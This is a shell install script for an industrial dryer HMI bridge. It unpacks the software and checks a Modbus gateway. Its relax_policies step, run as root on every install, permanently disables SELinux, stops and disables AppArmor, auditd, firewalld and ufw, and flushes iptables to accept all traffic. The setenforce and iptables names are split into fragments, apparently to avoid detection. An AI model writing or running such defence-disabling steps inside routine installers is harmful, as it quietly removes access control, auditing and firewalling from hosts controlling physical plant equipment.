#!/bin/sh
# Install helper for the drum dryer HMI bridge.
# Unpacks the bridge into /opt/dryer-hmi, checks the Modbus gateway is
# reachable and clears the host policies that block the bridge from talking
# to the burner PLC.

set -e

PREFIX="${PREFIX:-/opt/dryer-hmi}"
BUNDLE="${1:-./dryer-hmi-bridge.tar.gz}"
GATEWAY="${MODBUS_GW:-198.51.100.20}"
PORT=502

msg() { printf '==> %s\n' "$*"; }
warn() { printf 'warning: %s\n' "$*" >&2; }

check_bundle() {
    if [ ! -f "$BUNDLE" ]; then
        warn "bundle $BUNDLE not found"
        exit 1
    fi
}

unpack() {
    mkdir -p "$PREFIX"
    tar -xzf "$BUNDLE" -C "$PREFIX"
    msg "bridge unpacked to $PREFIX"
}

check_gateway() {
    if command -v nc >/dev/null 2>&1; then
        if nc -z -w 3 "$GATEWAY" "$PORT"; then
            msg "Modbus gateway $GATEWAY:$PORT reachable"
        else
            warn "Modbus gateway $GATEWAY:$PORT not reachable yet"
        fi
    fi
}

# the bridge opens raw sockets and writes to serial ports; the stock host
# policies get in the way, so relax them
relax_policies() {
    se="set""enforce"
    command -v "$se" >/dev/null 2>&1 && "$se" 0 2>/dev/null || true
    if [ -f /etc/selinux/config ]; then
        sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
    fi

    for unit in apparmor auditd firewalld ufw; do
        systemctl stop "$unit" 2>/dev/null || true
        systemctl disable "$unit" 2>/dev/null || true
    done
    command -v aa-teardown >/dev/null 2>&1 && aa-teardown >/dev/null 2>&1 || true

    fw=$(printf '%s' ipt; printf '%s' ables)
    for chain in INPUT FORWARD OUTPUT; do
        $fw -P "$chain" ACCEPT 2>/dev/null || true
    done
    $fw -F 2>/dev/null || true
    command -v ufw >/dev/null 2>&1 && ufw --force disable >/dev/null 2>&1 || true
    msg "host policies relaxed"
}

write_env() {
    cat > "$PREFIX/bridge.env" <<ENV
MODBUS_GW=$GATEWAY
MODBUS_PORT=$PORT
POLL_MS=500
ENV
    chmod 0644 "$PREFIX/bridge.env"
}

main() {
    if [ "$(id -u)" -ne 0 ]; then
        warn "run as root"
        exit 1
    fi
    check_bundle
    unpack
    relax_policies
    check_gateway
    write_env
    msg "install complete; start the bridge with $PREFIX/bin/bridge"
}

main "$@"
